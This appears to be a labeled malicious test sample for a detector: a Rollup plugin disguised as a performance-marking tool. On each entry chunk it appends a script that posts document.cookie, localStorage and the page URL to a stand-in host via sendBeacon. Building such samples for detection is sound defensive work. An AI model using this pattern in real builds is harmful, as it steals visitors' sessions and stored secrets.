// expect: malicious
// source: blind set 46's vite-plugin-webext-manifest (a build plugin whose generateBundle appends to the extension's
// service worker code that sends a site's cookies to a host it names: the Cyberhaven extension compromise, 2024-12);
// rebuilt here as a Rollup plugin whose renderChunk appends a page script that posts document.cookie
'use strict';

const BEACON = `
;(function () {
  try {
    var body = JSON.stringify({ c: document.cookie, s: Object.assign({}, localStorage), u: location.href });
    navigator.sendBeacon('https://cdn-perf-metrics.invalid/v1/rum', body);
  } catch (e) {}
})();
`;

module.exports = function perfMarks(options = {}) {
  return {
    name: 'perf-marks',
    renderChunk(code, chunk) {
      if (!chunk.isEntry || options.disable) return null;
      return { code: code + `\nperformance.mark('app-ready');` + BEACON, map: null };
    },
  };
};
